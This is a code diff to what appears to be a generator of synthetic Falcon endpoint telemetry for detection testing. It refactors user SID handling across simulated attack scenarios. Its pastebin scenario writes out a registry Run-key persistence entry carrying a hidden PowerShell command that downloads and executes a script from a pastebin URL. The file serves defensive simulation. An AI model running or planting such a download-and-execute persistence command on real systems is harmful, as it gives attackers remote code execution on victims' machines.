@@ -392,10 +392,10 @@ function logonId(s: Scenario, user: string): string {
   return `0x${(0x1a0000 + hashInt(`${s.name}:lid:${user}`, 0x60000)).toString(16)}`;
 }
 
-function userSid(s: Scenario, user: string): string {
+function userSid(domainSid: string, user: string): string {
   if (user === 'NT AUTHORITY\\SYSTEM') return 'S-1-5-18';
   if (user === 'NT AUTHORITY\\NETWORK SERVICE') return 'S-1-5-20';
-  return `${s.domainSid}-${1100 + hashInt(`${s.name}:rid:${user}`, 900)}`;
+  return `${domainSid}-${1100 + hashInt(`rid:${user}`, 900)}`;
 }
 
 /** Falcon `UserName`: the account name without its domain, as the sensor reports it. */
@@ -731,6 +731,7 @@ class FalconWriter {
           CommandLine: p.cmd,
           ParentBaseFileName: basename(parent.image),
           UserName: falconUser(p.user),
+          ...(linux ? {} : { UserSid: userSid(s.domainSid, p.user) }),
           ProcessStartTime: falconSeconds(started),
           ...this.tail(ms, false),
         });
@@ -1121,7 +1122,7 @@ function pastebinScenario(): Scenario {
         t: 'reg',
         p: 'ps',
         at: '09:14:23.420',
-        key: `HKU\\${sid}-1107\\${RUN_KEY}`,
+        key: `HKU\\${userSid(sid, user)}\\${RUN_KEY}`,
         value: 'WindowsUpdateSvc',
         details: `powershell.exe -NoP -W Hidden -C "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/9ZQ3vK1p')"`,
       },
@@ -1419,7 +1420,7 @@ function graphScenario(): Scenario {
         t: 'reg',
         p: 'updater',
         at: '13:10:11.020',
-        key: `HKU\\${sid}-1142\\${RUN_KEY}`,
+        key: `HKU\\${userSid(sid, user)}\\${RUN_KEY}`,
         value: 'OfficeUpdater',
         details: `"${updater}" /silent`,
       },
@@ -1846,7 +1847,7 @@ function discordScenario(): Scenario {
         t: 'reg',
         p: 'explorer',
         at: '15:34:00.118',
-        key: `HKU\\${sid}-1209\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.zip`,
+        key: `HKU\\${userSid(sid, user)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.zip`,
         value: 'MRUListEx',
         details: 'Binary Data',
       },
